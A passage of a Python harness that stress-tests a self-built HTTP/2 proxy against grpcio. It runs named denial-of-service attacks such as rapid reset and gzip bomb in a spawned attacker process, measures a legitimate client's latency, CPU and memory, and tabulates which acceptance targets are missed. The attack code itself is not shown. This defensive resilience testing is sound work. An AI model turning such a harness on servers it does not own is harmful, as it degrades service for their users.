    while time.monotonic() < deadline:
        before = proc_cpu_seconds(pid)
        time.sleep(0.5)
        if proc_cpu_seconds(pid) - before < 0.05:
            return


@dataclass
class Row:
    attack: str
    transport: str
    p50_ms: float
    p99_ms: float
    calls: int
    errors: dict
    proxy_cpu_s: float
    rss_growth_mb: float
    node_cpu_s: float
    attacker: dict
    aborted: str = ""


def measure(c: Cluster, transport: str, attack: str | None, seconds: float, rss_abort_mb: float) -> Row:
    """The legitimate client during `seconds` of `attack` (None: no attack) against one proxy."""
    proxy = c.proxies[transport]
    pid = proxy.pid
    nodes = [n.pid for n in c.readonly]
    settle(pid)
    rss_start = proc_rss_mb(pid)
    cpu_start = proc_cpu_seconds(pid)
    node_start = sum(proc_cpu_seconds(n) for n in nodes)
    peak = rss_start
    aborted = ""
    attacker_result: dict = {}
    global _attacks_started
    with LegitClient(f"{HOST}:{c.ports[transport]}", c.collection) as legit:
        attacker = None
        if attack is not None:
            source = ATTACKER_SOURCES[_attacks_started % len(ATTACKER_SOURCES)]
            _attacks_started += 1
            attacker = subprocess.Popen(
                [sys.executable, __file__, "--attacker", attack, "--port", str(c.ports[transport])]
                + ["--seconds", str(seconds), "--collection", c.collection, "--source", source],
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
                cwd=ROOT,
            )
        end = time.monotonic() + seconds
        while time.monotonic() < end + (30 if attacker else 0):
            if attacker is not None and attacker.poll() is not None and time.monotonic() >= end:
                break
            if attacker is None and time.monotonic() >= end:
                break
            try:
                peak = max(peak, proc_rss_mb(pid))
            except OSError:
                aborted = "proxy died"
                break
            if peak - rss_start > rss_abort_mb and not aborted:
                aborted = f"stopped: RSS +{peak - rss_start:.0f} MB"
                if attacker is not None:
                    attacker.kill()
            time.sleep(0.05)
        if attacker is not None:
            if attacker.poll() is None:
                attacker.kill()
                aborted = aborted or "attacker overran"
            out, err = attacker.communicate(timeout=30)
            lines = [line for line in out.splitlines() if line.startswith("{")]
            attacker_result = json.loads(lines[-1]) if lines else {"notes": [err.strip()[-300:]]}
    try:
        cpu = proc_cpu_seconds(pid) - cpu_start
    except OSError:
        cpu = float("nan")
        aborted = aborted or "proxy died"
    node_cpu = sum(proc_cpu_seconds(n) for n in nodes) - node_start
    return Row(
        attack or "(no attack)",
        transport,
        legit.percentile(0.5),
        legit.percentile(0.99),
        len(legit.latencies),
        dict(legit.errors),
        cpu,
        peak - rss_start,
        node_cpu,
        attacker_result,
        aborted,
    )


def describe_attacker(result: dict) -> str:
    if not result:
        return ""
    ended = result.get("ended", {})
    top = sorted(ended.items(), key=lambda item: -item[1])[:3]
    text = f"{result.get('connections', 0)} conn: " + ", ".join(f"{n}x {what}" for what, n in top)
    answers = result.get("answers", {})
    if answers:
        top_answers = sorted(answers.items(), key=lambda item: -item[1])[:2]
        text += "; " + ", ".join(f"{n}x {what}" for what, n in top_answers)
    for note in result.get("notes", []):
        text += f"; {note[:80]}"
    return text.replace("|", "/")


def misses(row: Row, rows: list[Row], seconds: float) -> list[str]:
    """The acceptance targets this row of the own server misses (empty: all met).

    0 legit errors; p50 at most 2x the no-attack p50 and p99 under 100 ms; RSS growth under
    256 MB; for rapid reset, under 1 s of read-only node CPU per 20 s beyond what the legit
    searches cost; and no worse than grpcio in the same run (p99, RSS growth)."""
    baseline = next((r for r in rows if r.transport == row.transport and r.attack == "(no attack)"), None)
    out = []
    if row.errors:
        out.append("legit errors")
    if baseline is not None and row.p50_ms > 2 * baseline.p50_ms:
        out.append(f"p50 {row.p50_ms / baseline.p50_ms:.1f}x")
    if not row.p99_ms < 100:
        out.append("p99 >= 100 ms")
    if row.rss_growth_mb >= 256:
        out.append("RSS >= 256 MB")
    if row.attack.startswith("rapid_reset") and excess_node_cpu(row, rows) > seconds / 20:
        out.append("node CPU")
    other = next((r for r in rows if r.attack == row.attack and r.transport == "grpcio"), None)
    if other is not None and row.transport != "grpcio":
        if row.p99_ms > other.p99_ms * 1.1 and row.p99_ms >= 100:
            out.append("p99 worse than grpcio")
        if row.rss_growth_mb > other.rss_growth_mb + 32:
            out.append("RSS worse than grpcio")
    if row.aborted:
        out.append(row.aborted)
    return out


def excess_node_cpu(row: Row, rows: list[Row]) -> float:
    """Read-only node CPU beyond what the legit client's searches cost in the no-attack run."""
    baseline = next((r for r in rows if r.transport == row.transport and r.attack == "(no attack)"), None)
    if baseline is None or not baseline.calls:
        return float("nan")
    return row.node_cpu_s - row.calls * baseline.node_cpu_s / baseline.calls


def table(rows: list[Row], seconds: float = 20.0) -> str:
    header = (
        "| attack | transport | legit p50 ms | legit p99 ms | calls | legit errors | proxy CPU s "
        "| proxy RSS growth MB | RO nodes CPU s (beyond legit) | attacker connections | targets |"
    )
    lines = [header, "|" + "---|" * 11]
    for r in rows:
        errors = ", ".join(f"{k} {v}" for k, v in r.errors.items()) or "0"
        attacker = describe_attacker(r.attacker) + (f" **{r.aborted}**" if r.aborted else "")
        targets = (
            ""
            if r.transport == "grpcio" or r.attack == "(no attack)"
            else ("; ".join(misses(r, rows, seconds)) or "met")
        )
        lines.append(
            f"| {r.attack} | {r.transport} | {r.p50_ms:.1f} | {r.p99_ms:.1f} | {r.calls} | {errors} "
            f"| {r.proxy_cpu_s:.2f} | {r.rss_growth_mb:.0f} | {r.node_cpu_s:.2f} ({excess_node_cpu(r, rows):+.2f}) "
            f"| {attacker} | {targets} |"
        )
    return "\n".join(lines)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--seconds", type=float, default=20.0, help="duration of each attack (default 20)")
    parser.add_argument("--baseline-seconds", type=float, default=None, help="no-attack run (default: --seconds)")
    parser.add_argument("--only", default="", help="comma-separated attack names (default: all)")
    parser.add_argument("--transports", default="http2,grpcio")
    parser.add_argument("--rss-abort-mb", type=float, default=3072, help="stop an attack past this RSS growth")
    parser.add_argument("--json", default="", help="also write the rows to this file")
    parser.add_argument("--attacker", help=argparse.SUPPRESS)
    parser.add_argument("--port", type=int, help=argparse.SUPPRESS)
    parser.add_argument("--source", default=ATTACKER_SOURCES[0], help=argparse.SUPPRESS)
    parser.add_argument("--collection", default="attacked", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.attacker:
        global _source
        _source = args.source
        attacker_main(args.attacker, args.port, args.seconds, args.collection)
        return 0
    names = [n for n in args.only.split(",") if n] or list(ATTACKS)
    unknown = [n for n in names if n not in ATTACKS]
    if unknown:
        parser.error(f"unknown attacks {unknown}; known: {', '.join(ATTACKS)}")
    transports = [t for t in args.transports.split(",") if t]
    if "gzip_bomb" in names:
        gzip_bomb_bytes()  # made before any clock starts
    rows: list[Row] = []
    with cluster(transports) as c:
        for transport in transports:
            rows.append(measure(c, transport, None, args.baseline_seconds or args.seconds, args.rss_abort_mb))
            print(table(rows, args.seconds).splitlines()[-1], file=sys.stderr, flush=True)
        for name in names:
            for transport in transports:
                if not c.proxies[transport].alive():
                    c.proxies[transport].start()
                rows.append(measure(c, transport, name, args.seconds, args.rss_abort_mb))
                print(table(rows, args.seconds).splitlines()[-1], file=sys.stderr, flush=True)
    print(table(rows, args.seconds))
    if args.json:
        Path(args.json).write_text(json.dumps([r.__dict__ for r in rows], indent=1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
